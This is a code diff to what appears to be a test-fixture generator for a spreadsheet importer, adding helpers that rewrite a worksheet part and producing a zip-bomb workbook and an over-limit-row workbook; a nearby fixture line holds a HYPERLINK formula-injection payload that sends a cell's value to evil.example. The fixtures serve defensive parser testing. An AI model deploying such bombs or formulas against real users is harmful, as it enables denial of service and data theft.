@@ -60,6 +60,25 @@ def with_saved_values(data: bytes, values: dict[str, str]) -> bytes:
     return out.getvalue()
 
 
+def with_sheet(data: bytes, sheet: bytes) -> bytes:
+    """The workbook with ``xl/worksheets/sheet1.xml`` replaced by ``sheet``, packed as tightly as zip can."""
+    source = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
+        for item in source.infolist():
+            content = sheet if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
+            target.writestr(item.filename, content)
+    return out.getvalue()
+
+
+def sheet_xml(rows: str) -> bytes:
+    """A worksheet part holding ``rows`` (``<row>`` elements)."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+        f'2006/main"><sheetData>{rows}</sheetData></worksheet>'
+    ).encode()
+
+
 def main() -> None:
     for old in HERE.iterdir():
         if old.suffix in (".csv", ".xlsx"):
@@ -121,6 +140,15 @@ def main() -> None:
     (HERE / "formulas_saved_merged.xlsx").write_bytes(
         with_saved_values(workbook(formulas, merge="B2:B3"), {"C2": "y", "D2": "180"})
     )
+    # A zip bomb: 8 KB that would unpack to an 8 MB cell (a 1.5 MB file became a 1.5 GB cell).
+    header = '<row r="1"><c r="A1" t="inlineStr"><is><t>order_id</t></is></c><c r="B1" t="inlineStr"><is><t>title</t>'
+    bomb = header + '</is></c></row><row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>'
+    (HERE / "zip_bomb_cell.xlsx").write_bytes(
+        with_sheet(workbook([["order_id"]]), sheet_xml(bomb + "A" * 8_000_000 + "</t></is></c></row>"))
+    )
+    # A row beyond the most Excel holds (1,048,576): refused as it is reached, not after 20M rows.
+    far = header + '</is></c></row><row r="1048577"><c r="A1048577"><v>1</v></c></row>'
+    (HERE / "row_beyond_excel.xlsx").write_bytes(with_sheet(workbook([["order_id"]]), sheet_xml(far)))
     one_bad_row(
         "hyperlink_formula.csv",
         '8100000000000002,S,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",10,RUB,2026-02-02',
